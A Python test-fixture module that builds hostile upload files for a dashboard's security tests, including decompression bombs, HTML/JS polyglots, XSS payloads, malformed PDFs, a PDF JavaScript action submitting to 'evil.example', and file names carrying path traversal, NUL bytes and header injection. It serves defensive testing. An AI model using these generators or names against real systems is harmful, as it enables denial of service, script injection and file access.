"""Hostile files, generated on the fly: nothing binary is checked in, and every case says what
it is and what the dashboard must do with it.

`CORPUS` lists (name, builder, expectation): "refused" files must be turned away at upload with
a clear message; "accepted" files must be stored and then analysed safely (a report, or a clear
job error) by the built-in engine, and shown by the viewer without a server error.
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image

SCRIPT = b"<script>alert(document.domain)</script>"
HTML = b"<!doctype html><html><body><img src=x onerror=alert(1)>" + SCRIPT + b"</body></html>"


# ---------------------------------------------------------------------------- PDF building


def pdf_from_objects(
    objects: list[bytes], *, header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
) -> bytes:
    """A PDF with a correct cross-reference table from numbered object bodies (1-based)."""
    out = bytearray(header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def stream(data: bytes, extra: bytes = b"", *, compress: bool = False) -> bytes:
    if compress:
        data = zlib.compress(data, 9)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def simple_pdf(content: bytes = b"BT /F1 24 Tf 72 720 Td (Statement) Tj ET", *, extra_catalog=b""):
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R" + extra_catalog + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
            b" /Resources << /Font << /F1 5 0 R >> >> >>",
            stream(content),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )


def pdf_with_html_inside() -> bytes:
    """A valid PDF whose bytes also hold an HTML page with a script (in a comment right after
    the header, and in an unused stream): a browser sniffing it as HTML would run the script."""
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
            stream(b"BT ET"),
            stream(HTML),
        ],
        header=b"%PDF-1.7\n%" + HTML + b"\n",
    )


def html_then_pdf() -> bytes:
    """HTML in front of a PDF: PDF readers skip leading junk, browsers see a web page."""
    return HTML + b"\n" + simple_pdf()


def pdf_with_javascript() -> bytes:
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript 6 0 R >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
            stream(b"BT ET"),
            b"<< /S /JavaScript /JS (app.alert('pwned');"
            b" this.submitForm('https://evil.example/')) >>",
            b"<< /Names [(x) 5 0 R] >>",
        ]
    )


def deflate_repeated(chunk: bytes, times: int) -> bytes:
    """zlib data inflating to `chunk` * `times`, built from one compressed copy of `chunk` (a full
    flush resets the compressor, so every copy compresses to the same bytes): fast to build."""
    compressor = zlib.compressobj(9)
    head = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert head[2:] == block  # the first copy carries the 2-byte zlib header
    checksum = 1
    for _ in range(times):
        checksum = zlib.adler32(chunk, checksum)
    return head + block * (times - 1) + b"\x03\x00" + struct.pack(">I", checksum)


def pdf_flate_bomb(size: int = 1 << 30) -> bytes:
    """A page whose content stream inflates to `size` bytes (1 GiB) from about a megabyte."""
    data = deflate_repeated(b" " * (1 << 20), size >> 20)
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream",
        ]
    )


def pdf_flate_bomb_shared(pages: int = 200) -> bytes:
    """200 pages drawing the same 48 MB content stream (each under the per-stream limit): the
    viewer would parse 48 MB per page shown."""
    data = deflate_repeated(b"0 0 m " * 174_763, 48)  # ~1 MiB of "0 0 m " x 48
    kids = b" ".join(b"%d 0 R" % (4 + n) for n in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream",
    ]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R >>"] * pages
    return pdf_from_objects(objects)


def pdf_image_bomb() -> bytes:
    """A page showing a picture that declares 100,000 x 100,000 pixels (10 gigapixels)."""
    pixels = zlib.compress(b"\x00" * 1024)
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
            b" /Resources << /XObject << /Im0 5 0 R >> >> >>",
            stream(b"q 612 0 0 792 0 0 cm /Im0 Do Q"),
            b"<< /Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace"
            b" /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode /Length %d >>\nstream\n"
            % len(pixels)
            + pixels
            + b"\nendstream",
        ]
    )


def pdf_many_pages(count: int = 3000) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(count):
        writer.add_blank_page(width=612, height=792)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_page_tree_loop() -> bytes:
    """A page tree that contains itself: naive readers recurse forever."""
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        ]
    )


def pdf_truncated() -> bytes:
    data = simple_pdf()
    return data[: len(data) // 2]


def pdf_garbage() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n"


def pdf_no_pages() -> bytes:
    return pdf_from_objects(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]
    )


def pdf_wrong_xref() -> bytes:
    """Every cross-reference offset is 40 bytes off: readers must rebuild it by scanning."""
    data = simple_pdf()
    header_end = data.index(b"\n", 9) + 1
    return data[:header_end] + b"%" + b"x" * 38 + b"\n" + data[header_end:]


def pdf_encrypted() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    writer.encrypt(user_password="secret", owner_password="owner")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


# --------------------------------------------------------------------------------- pictures


def png(size=(64, 48), color="white") -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, color).save(buffer, "PNG")
    return buffer.getvalue()


def jpeg(size=(64, 48)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, "white").save(buffer, "JPEG")
    return buffer.getvalue()


def png_with_trailing_html() -> bytes:
    return png() + HTML


def jpeg_with_script_comment() -> bytes:
    data = jpeg()
    comment = b"\xff\xfe" + struct.pack(">H", len(HTML) + 2) + HTML
    return data[:2] + comment + data[2:]


def gif_js_polyglot() -> bytes:
    """Both a GIF header and a valid script: GIF89a/*...*/=1;alert(1)//"""
    return b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.domain);//" + b"\x00" * 16


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """900 megapixels of black in a 1-bit PNG of about 100 KB."""
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    rows = row * 1000
    body = b"".join(compressor.compress(rows) for _ in range(height // 1000)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", body)
        + _png_chunk(b"IEND", b"")
    )


def png_bomb_header_only() -> bytes:
    """Claims 65,535 x 65,535 pixels and holds nearly nothing."""
    header = struct.pack(">IIBBBBB", 65_535, 65_535, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 100))
        + _png_chunk(b"IEND", b"")
    )


def png_truncated() -> bytes:
    data = png((400, 300), "red")
    return data[: len(data) // 2]


def tiff_bomb() -> bytes:
    """A TIFF header claiming 100,000 x 100,000 pixels."""
    buffer = io.BytesIO()
    Image.new("L", (8, 8)).save(buffer, "TIFF")
    data = bytearray(buffer.getvalue())
    # Rewrite ImageWidth (256) and ImageLength (257) in the first directory.
    offset = struct.unpack("<I", data[4:8])[0]
    entries = struct.unpack("<H", data[offset : offset + 2])[0]
    for index in range(entries):
        at = offset + 2 + index * 12
        tag, kind = struct.unpack("<HH", data[at : at + 4])
        if tag in (256, 257):
            if kind == 3:
                data[at + 8 : at + 10] = struct.pack("<H", 65_000)
            else:
                data[at + 8 : at + 12] = struct.pack("<I", 100_000)
    return bytes(data)


def webp_large_but_legal() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4000, 3000), "white").save(buffer, "WEBP", quality=10)
    return buffer.getvalue()


# ------------------------------------------------------------------------------------ others


def zip_named_pdf() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("statement.pdf", b"\x00" * (50 << 20))  # 50 MB of zeros inside
    return buffer.getvalue()


def svg_with_script() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def html_page() -> bytes:
    return HTML


def heic_photo() -> bytes:
    return b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64


def empty() -> bytes:
    return b""


# ----------------------------------------------------------------------------------- corpus


@dataclass(frozen=True)
class Case:
    name: str  # the test id
    filename: str  # the uploader's file name
    build: Callable[[], bytes]
    expect: str  # "refused" or "accepted"
    refusal: str = ""  # words the refusal message must contain
    content_type: str = ""  # the type sniffed when accepted

    @functools.cached_property
    def content(self) -> bytes:
        return self.build()


NOT_ACCEPTED = "judged from its content"
BOMB = "too large to analyse safely"
PDF, JPEG, PNG, WEBP = "application/pdf", "image/jpeg", "image/png", "image/webp"


def refused(name: str, filename: str, build: Callable[[], bytes], words: str) -> Case:
    return Case(name, filename, build, "refused", refusal=words)


def accepted(name: str, filename: str, build: Callable[[], bytes], content_type: str) -> Case:
    return Case(name, filename, build, "accepted", content_type=content_type)


CORPUS = [
    # Polyglots
    accepted("pdf-with-html-inside", "statement.pdf", pdf_with_html_inside, PDF),
    refused("html-in-front-of-pdf", "statement.pdf", html_then_pdf, NOT_ACCEPTED),
    refused("gif-js-polyglot", "photo.gif", gif_js_polyglot, NOT_ACCEPTED),
    accepted("png-trailing-html", "photo.png", png_with_trailing_html, PNG),
    accepted("jpeg-script-comment", "photo.jpg", jpeg_with_script_comment, JPEG),
    # Bombs
    refused("pdf-flate-bomb-1gib", "statement.pdf", pdf_flate_bomb, "decompression bomb"),
    accepted("pdf-48mb-stream-200-pages", "statement.pdf", pdf_flate_bomb_shared, PDF),
    refused("pdf-image-bomb", "scan.pdf", pdf_image_bomb, BOMB),
    refused("zip-bomb-named-pdf", "statement.pdf", zip_named_pdf, NOT_ACCEPTED),
    refused("png-bomb-900mp", "scan.png", png_bomb, BOMB),
    refused("png-bomb-header-only", "scan.png", png_bomb_header_only, BOMB),
    refused("tiff-bomb", "scan.tiff", tiff_bomb, BOMB),
    accepted("webp-12mp", "photo.webp", webp_large_but_legal, WEBP),
    # Broken files
    refused("pdf-truncated", "statement.pdf", pdf_truncated, "truncated"),
    refused("pdf-garbage", "statement.pdf", pdf_garbage, "damaged"),
    refused("pdf-no-pages", "statement.pdf", pdf_no_pages, "no pages"),
    refused("pdf-page-tree-loop", "statement.pdf", pdf_page_tree_loop, "damaged"),
    accepted("pdf-wrong-xref", "statement.pdf", pdf_wrong_xref, PDF),
    accepted("pdf-encrypted", "statement.pdf", pdf_encrypted, PDF),
    refused("png-truncated", "scan.png", png_truncated, "damaged or truncated"),
    # Active content and size
    accepted("pdf-javascript", "statement.pdf", pdf_with_javascript, PDF),
    accepted("pdf-3000-pages", "statement.pdf", pdf_many_pages, PDF),
    # Extensions that lie
    accepted("jpeg-named-pdf", "statement.pdf", jpeg, JPEG),
    accepted("pdf-named-jpg", "photo.jpg", simple_pdf, PDF),
    refused("svg-named-png", "photo.png", svg_with_script, NOT_ACCEPTED),
    refused("html-named-pdf", "statement.pdf", html_page, NOT_ACCEPTED),
    refused("heic-named-jpg", "photo.jpg", heic_photo, "HEIC"),
    refused("empty-file", "statement.pdf", empty, "empty"),
]

# Uploaders' file names that must never reach the file system as given. The stored name is
# always ours; the original is kept for display only, cleaned.
HOSTILE_NAMES = {
    "traversal-posix": "../../../../etc/passwd.png",
    "traversal-windows": "..\\..\\Windows\\System32\\evil.png",
    "absolute-path": "/var/private/documents/1/evil.png",
    "nul-byte": "evil\x00.png",
    "header-injection": "evil\r\nSet-Cookie: sessionid=x.png",
    "right-to-left-override": "invoice\u202egnp.exe.png",
    "html-in-name": "<img src=x onerror=alert(1)>.png",
    "long": "a" * 300 + ".png",
    "very-long": "a" * 1000 + ".png",  # past Django's multipart header limit: 400
    "only-dots": "..",
    "url-encoded-traversal": "%2e%2e%2f%2e%2e%2fevil.png",
    "html-entity-traversal": "&#46;&#46;&#47;evil.png",
}


def pdf_flate_bomb_indirect_filter() -> bytes:
    """The bomb again, its /Filter given by reference (`/Filter 5 0 R`) to slip past a naive
    check of the stream dictionary."""
    data = deflate_repeated(b" " * (1 << 20), 200)
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
            b"<< /Length %d /Filter 5 0 R >>\nstream\n" % len(data) + data + b"\nendstream",
            b"[/FlateDecode]",
        ]
    )


CORPUS.append(
    refused(
        "pdf-flate-bomb-indirect-filter",
        "statement.pdf",
        pdf_flate_bomb_indirect_filter,
        "decompression bomb",
    )
)
